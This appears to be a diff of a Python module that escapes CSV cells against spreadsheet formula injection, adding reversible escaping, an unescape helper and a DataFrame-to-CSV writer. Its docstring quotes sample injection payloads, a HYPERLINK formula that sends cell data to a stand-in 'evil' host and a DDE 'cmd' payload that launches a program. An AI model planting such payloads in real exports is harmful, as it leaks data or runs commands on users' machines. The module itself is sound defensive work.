@@ -1,7 +1,9 @@
 """CSV cells that are safe to open in a spreadsheet (no formula injection).
 
-Every CSV the platform writes passes its cells through :func:`safe_cell` (through
-:func:`safe_writer`, :func:`safe_rows` or :func:`safe_frame`), so a rationale
+This module is the platform's one CSV writer: every CSV it writes (web downloads, the API,
+management commands, benchmarks' outputs) is written through :func:`safe_writer`,
+:func:`safe_dict_writer` or :func:`frame_csv`, and ``tests/test_csv_writers.py`` fails on any
+``csv.writer`` / ``csv.DictWriter`` / ``DataFrame.to_csv`` outside this file. So a rationale
 ``=HYPERLINK("http://evil/?"&A1)``, an imported id ``=cmd|' /C calc'!A0`` or a source ``@SUM(…)``
 is shown by Excel / LibreOffice / Google Sheets as text instead of being evaluated.
 
@@ -61,6 +63,24 @@ def safe_cell(value: Any) -> Any:
     return value
 
 
+def reversible_cell(text: str) -> str:
+    """`safe_cell` for text that must come back exactly when the file is read again (a released
+    dataset that is re-imported): besides the dangerous cells, a text that already starts with
+    apostrophes before a dangerous character gets one more, so :func:`cell_unescaped` removes
+    exactly the one added here and nothing a writer typed."""
+    return PREFIX + text if _looks_escaped(text) else text
+
+
+def cell_unescaped(text: str) -> str:
+    """The inverse of :func:`reversible_cell`: one leading apostrophe off a cell that starts
+    with apostrophes before a dangerous character; every other text as it is."""
+    return text[1:] if text.startswith(PREFIX) and _looks_escaped(text) else text
+
+
+def _looks_escaped(text: str) -> bool:
+    return is_dangerous(text.lstrip(PREFIX))
+
+
 _PLAIN = frozenset({int, float, Decimal, bool, type(None)})
 
 
@@ -118,6 +138,14 @@ def safe_writer(file, **kwargs) -> _SafeWriter:
 def safe_dict_writer(file, fieldnames: list[str], **kwargs) -> _SafeDictWriter:
     """``csv.DictWriter(file, fieldnames, **kwargs)`` whose cells are neutralised."""
     return _SafeDictWriter(csv.DictWriter(file, fieldnames=fieldnames, **kwargs))
+
+
+def frame_csv(df: pd.DataFrame, **kwargs: Any) -> str:
+    """``df.to_csv(index=False, **kwargs)`` of the neutralised frame, as text (floats keep
+    pandas' full, round-tripping precision unless ``float_format`` says otherwise)."""
+    kwargs.setdefault("index", False)
+    text: str = safe_frame(df).to_csv(**kwargs)
+    return text
 
 
 def safe_frame(df: pd.DataFrame) -> pd.DataFrame:
